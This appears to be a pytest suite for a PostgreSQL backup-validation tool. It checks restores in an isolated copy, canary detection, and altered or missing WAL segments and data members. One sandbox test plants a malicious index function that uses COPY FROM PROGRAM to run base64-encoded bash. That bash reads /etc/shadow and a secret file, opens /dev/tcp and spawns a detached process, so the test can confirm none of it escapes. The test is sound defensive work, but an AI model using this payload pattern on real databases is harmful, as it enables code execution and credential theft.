# Copyright (c) 2026 Lifeboat contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A backup of a server's files is proved by a copy that recovers within walls; what is not as it was is named."""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import os
import re
import secrets
import socket
import time
import typing as t
from pathlib import Path

import physical_fixtures
import pytest
from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.drivers.components.postgres import (
    amcheck,
    checks,
    wal_files,
    walled_server,
)
from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.ground.errors import (
    CanaryMissed,
    DatabaseError,
    NotFound,
    ProofMismatch,
    Tampered,
)
from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.operations.pitr import planted, proving
from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.operations.pitr.proving import PhysicalTrial
from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.operations.validate.validation import (
    ValidateRequest,
    validate,
)
from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.records.repository import marks
from physical_fixtures import Physical
from restoring import place

if t.TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.ground.model import Outcome

__all__ = ["place"]

AFTER = 3
"""Segments after the base."""


@dataclasses.dataclass
class Server:
    """A server with a base backup, which needs one segment, and some after it."""

    physical: Physical
    backup_id: str = ""

    def validate(
        self,
        scratch: Path,
        *,
        canaries: bool = False,
        dry_run: bool = False,
        sleep: Callable[[float], object] = time.sleep,
        **options: t.Any,
    ) -> Outcome:
        asked, unasked = checks.parse_named(options.pop("checks", ()), options.pop("tables", ()))
        settings = self.physical.place.settings
        trial = PhysicalTrial(settings, directory=str(scratch), unasked=unasked, **options)
        request = ValidateRequest(
            settings, ("main", "@physical"), trial, backup=self.backup_id, checks=asked, canaries=canaries
        )
        world = dataclasses.replace(self.physical.place.world(), sleep=sleep, dry_run=dry_run)
        return validate(request, world)

    def archive(self, *statements: str) -> str:
        """Run statements, store their log, and return the name of its segment."""
        for statement in statements:
            self.physical.server.execute(statement)
        (name,) = self.physical.server.execute("SELECT pg_walfile_name(pg_switch_wal())")[0]
        self.physical.archive_all()
        self.physical.store_wal()
        return str(name)

    @property
    def store(self) -> Path:
        return Path(self.physical.place.settings.store.url.removeprefix("file://"))

    def segments(self) -> list[Path]:
        """Return what is stored of the log from the base's start on."""
        needs = self.physical.place.open().find(physical_fixtures.COMPONENT, self.backup_id).manifest.wal
        first = wal_files.segment(1, needs.start // needs.segment_size, needs.segment_size) if needs else ""
        found = sorted(path for path in self.store.glob("*/wal/*/*/*/*.lbx") if len(path.name) == 28)
        return [path for path in found if path.name >= first]

    def age(self) -> None:
        """Let all of the log have been stored an hour ago."""
        for path in self.store.glob("*/wal/*/*/*/*.lbx"):
            os.utime(path, (time.time() - 3600, time.time() - 3600))

    def tested(self) -> bool:
        """Whether the store says that the backup is restore-tested."""
        found = self.physical.place.open().find(physical_fixtures.COMPONENT, self.backup_id)
        return bool(marks.of(found, marks.RESTORE_TESTED).of(marks.RESTORE_TESTED))


@contextlib.contextmanager
def changed(path: Path, contents: bytes | None) -> Iterator[None]:
    """Let a file have other contents, or not be there, while a block runs."""
    before = path.read_bytes()
    path.unlink()
    if contents is not None:
        path.write_bytes(contents)
    try:
        yield
    finally:
        path.unlink(missing_ok=True)
        path.write_bytes(before)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    home = tmp_path_factory.mktemp("proving")
    options = ["--data-checksums"]
    with physical_fixtures.running(home, initdb=options, archive_mode="on", track_commit_timestamp="on") as physical:
        physical.server.execute("CREATE TABLE public.told (id serial PRIMARY KEY)")
        made = physical.back_up()
        it = Server(physical, str(made.facts["backup"]["backup_id"]))
        for _segment in range(AFTER):
            it.archive("INSERT INTO public.told DEFAULT VALUES")
        yield it


def test_a_backup_restores_with_the_log_after_it_and_every_canary_is_found(server: Server, place: Path) -> None:
    before = {path: path.read_bytes() for path in server.store.rglob("*") if path.is_file()}
    done = server.validate(
        place,
        canaries=True,
        checks=[
            {"name": "rows", "database": "postgres", "query": "SELECT count(*) FROM told", "expect": AFTER},
            {"name": "nowhere", "query": "SELECT 1", "expect": 1},
        ],
        tables=[{"name": "public.spaced", "minimum_rows": physical_fixtures.ROWS, "database": "postgres"}],
    )
    result = done.facts["validation"]
    (last,) = server.physical.server.execute("SELECT max(pg_xact_commit_timestamp(xmin)) FROM public.told")[0]
    assert result["recovered"]["segments"] == len(server.segments())
    assert result["recovered"]["last_commit_at"] == last.isoformat()
    assert result["canaries"] == {"planted": 8, "found": 8, "skipped": [], "missed": []}
    assert [check["passed"] for check in result["checks"]] == [True, True]
    assert done.warnings == ("The check 'nowhere' names no database, so it was not asked.",)
    assert done.facts["restore_tested_mark"]
    assert server.tested()
    after = {path: path.read_bytes() for path in server.store.rglob("*") if path.is_file()}
    assert {path: after.pop(path) for path in before} == before
    assert {path.parent.parent.name for path in after} == {"marks"}
    assert not list(place.iterdir())


def test_only_as_much_of_the_log_is_replayed_as_is_asked_for(server: Server, place: Path) -> None:
    done = server.validate(
        place,
        replay=1,
        checks=[{"name": "rows", "database": "postgres", "query": "SELECT count(*) FROM told", "expect": 1}],
    )
    assert done.facts["validation"]["recovered"]["segments"] == 2
    with pytest.raises(ProofMismatch, match="The check 'rows' fails on the restored data"):
        server.validate(
            place,
            replay=0,
            checks=[{"name": "rows", "database": "postgres", "query": "SELECT count(*) FROM told", "expect": 1}],
        )


def test_a_copy_that_has_no_room_is_not_begun(server: Server, place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(walled_server, "SPARE", 1 << 40)
    with pytest.raises(DatabaseError, match=r"The recovery of this backup needs .* in /tmp/"):
        server.validate(place)
    assert not list(place.iterdir())


def test_a_check_of_a_database_that_is_not_there_fails(server: Server, place: Path) -> None:
    with pytest.raises(ProofMismatch, match="The backup has no database 'gone' that takes sessions"):
        server.validate(place, checks=[{"name": "x", "database": "gone", "query": "SELECT 1", "expect": 1}])


@pytest.mark.parametrize("which", [0, 2], ids=["of_the_base", "after_it"])
def test_a_segment_that_lacks_is_named_and_the_mark_goes(server: Server, place: Path, which: int) -> None:
    path = server.segments()[which]
    with changed(path, None):
        server.age()
        for dry_run in (True, False):
            with pytest.raises((NotFound, ProofMismatch), match=f"{path.name.removesuffix('.lbx')} is not stored"):
                server.validate(place, dry_run=dry_run)
        assert not server.tested()
    server.validate(place)
    assert server.tested()


def test_a_segment_that_is_still_on_its_way_is_waited_for(server: Server, place: Path) -> None:
    path, waited = server.segments()[-2], []
    contents = path.read_bytes()

    def sleep(seconds: float) -> None:
        if not waited:
            path.write_bytes(contents)
        waited.append(seconds)
        time.sleep(min(seconds, 0.2))

    os.utime(server.segments()[-1])
    path.unlink()
    try:
        server.validate(place, sleep=sleep)
    finally:
        path.write_bytes(contents)
    assert waited[0] == proving.STEP


@pytest.mark.parametrize("how", ["flipped", "truncated", "swapped"])
def test_a_segment_that_was_altered_is_named(server: Server, place: Path, how: str) -> None:
    path, other = server.segments()[-1], server.segments()[1]
    data = path.read_bytes()
    middle = len(data) // 2
    contents = {
        "flipped": data[:middle] + bytes([data[middle] ^ 1]) + data[middle + 1 :],
        "truncated": data[:-1],
        "swapped": other.read_bytes(),
    }[how]
    with changed(path, contents), pytest.raises(Tampered) as caught:
        server.validate(place)
    assert path.name.removesuffix(".lbx") in caught.value.cause
    assert not list(place.iterdir())


def test_a_segment_that_was_cut_before_it_was_signed_is_named(server: Server, place: Path, tmp_path: Path) -> None:
    name = server.archive("CREATE TABLE public.later AS SELECT n FROM generate_series(1, 5000) AS n")
    path = server.segments()[-1]
    assert path.name == f"{name}.lbx"
    whole = (server.physical.archived / name).read_bytes()
    cut = tmp_path / name
    # From its second page on it looks as if nothing had been written there.
    cut.write_bytes(whole[:8192] + bytes(len(whole) - 8192))
    with changed(path, None):
        server.physical.pusher().push(str(cut))
        with pytest.raises(ProofMismatch, match=f"The stored log cannot be read beyond [0-9A-F/]+, in {name}: "):
            server.validate(place)


def test_a_member_that_lacks_or_was_altered_is_named(server: Server, place: Path) -> None:
    for path in sorted(server.store.glob(f"*/data/{server.backup_id}/*.lbx"))[:2]:
        with changed(path, None), pytest.raises(NotFound, match=path.name.removesuffix(".lbx")):
            server.validate(place)
        with changed(path, path.read_bytes()[:-1]), pytest.raises(Tampered, match=path.name.removesuffix(".lbx")):
            server.validate(place)


def test_an_index_that_does_not_lead_to_its_rows_is_named(server: Server, place: Path) -> None:
    server.archive(
        "CREATE FUNCTION public.half(n int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT n / 2'",
        "CREATE TABLE public.numbers AS SELECT n FROM generate_series(1, 50) AS n",
        "CREATE INDEX lying ON public.numbers (public.half(n))",
        "CREATE OR REPLACE FUNCTION public.half(n int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT n / 3'",
    )
    with pytest.raises(ProofMismatch, match=r'is damaged: btree index "postgres\.public\.lying"'):
        server.validate(place)
    server.archive("DROP TABLE public.numbers")


def test_a_heartbeat_that_was_never_replayed_is_named(server: Server, place: Path) -> None:
    server.archive(
        "CREATE SCHEMA lifeboat",
        "CREATE TABLE lifeboat.heartbeat (at timestamptz, lsn pg_lsn)",
        "INSERT INTO lifeboat.heartbeat VALUES (now(), pg_current_wal_lsn())",
    )
    server.validate(place)
    server.archive("UPDATE lifeboat.heartbeat SET lsn = 'FF/0'")
    with pytest.raises(ProofMismatch, match="at FF/0, which was never replayed"):
        server.validate(place)
    server.archive("DROP SCHEMA lifeboat CASCADE")


def test_who_overlooks_what_was_planted_does_not_pass(
    server: Server, place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(amcheck, "check", lambda *_given, **_options: amcheck.Found(()))
    monkeypatch.setattr(planted, "_refusal", lambda *_given: "")
    with pytest.raises(CanaryMissed, match="swapped_segments in") as caught:
        server.validate(place, canaries=True)
    result = t.cast("dict[str, t.Any]", caught.value.details["validation"])
    assert [missed["name"] for missed in result["canaries"]["missed"]] == ["swapped_segments", "flipped_page"]


ATTACK = """
CREATE TABLE public.said (line text);
CREATE FUNCTION public.attack() RETURNS void LANGUAGE plpgsql AS $attack$
BEGIN
    IF current_setting('data_directory') LIKE '%scratch-%' AND NOT EXISTS (SELECT FROM public.said) THEN
        EXECUTE $copy$COPY public.said FROM PROGRAM '<program>'$copy$;
    END IF;
END $attack$;
CREATE FUNCTION public.evil(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $evil$
BEGIN PERFORM public.attack(); RETURN n; END $evil$;
CREATE TABLE public.trap AS SELECT 1 AS n;
CREATE INDEX trapped ON public.trap (public.evil(n));
"""


DEFENCE = (
    "DROP TABLE public.trap",
    "DROP TABLE public.said",
    "DROP FUNCTION public.evil(int)",
    "DROP FUNCTION public.attack()",
)


def test_code_of_the_backup_does_not_leave_the_walls(server: Server, place: Path, tmp_path: Path) -> None:
    token, secret = f"t{secrets.token_hex(6)}", tmp_path / "key"
    tmp_path.chmod(0o755)
    secret.write_text("secret")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        script = (
            f'echo ran; cat {secret} /etc/shadow; ls {server.store} && echo "saw the store"; '
            f"(exec 3<>/dev/tcp/127.0.0.1/{listener.getsockname()[1]}) && echo network; "
            f'echo x > /tmp/{token}; setsid nohup bash -c "exec -a {token} sleep 600" >/dev/null 2>&1 & true'
        )
        # Base64, so that nothing in it has to be quoted.
        told = base64.b64encode(script.encode()).decode()
        server.archive(ATTACK.replace("<program>", f"echo {told} | base64 -d | bash 2>/dev/null"))
        said = {
            "name": "said",
            "database": "postgres",
            "query": "SELECT string_agg(line, ', ') FROM public.said",
            "expect": "ran",
        }
        done = server.validate(place, checks=[said])
        assert done.facts["validation"]["checks"][0]["found"] == "ran"
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert not Path("/tmp", token).exists()
    running = [name for name in os.listdir("/proc") if name.isdigit()]
    assert not [pid for pid in running if token.encode() in _command(pid)]
    server.archive(*DEFENCE)


def test_what_pg_amcheck_had_no_time_for_is_said(server: Server, place: Path) -> None:
    server.archive(
        ATTACK.replace("EXECUTE $copy$COPY public.said FROM PROGRAM '<program>'$copy$", "PERFORM pg_sleep(600)"),
    )
    done = server.validate(place, budget=1.0)
    (note,) = done.warnings
    assert re.match(r"pg_amcheck was ended after 1 s: by its last report it had looked at \d+ of \d+ relations\.", note)
    with pytest.raises(DatabaseError, match="was not validated within"):
        server.validate(place, timeout=2.0)
    assert not list(place.iterdir())
    server.archive(*DEFENCE)


def _command(pid: str) -> bytes:
    try:
        return Path("/proc", pid, "cmdline").read_bytes()
    except OSError:
        return b""
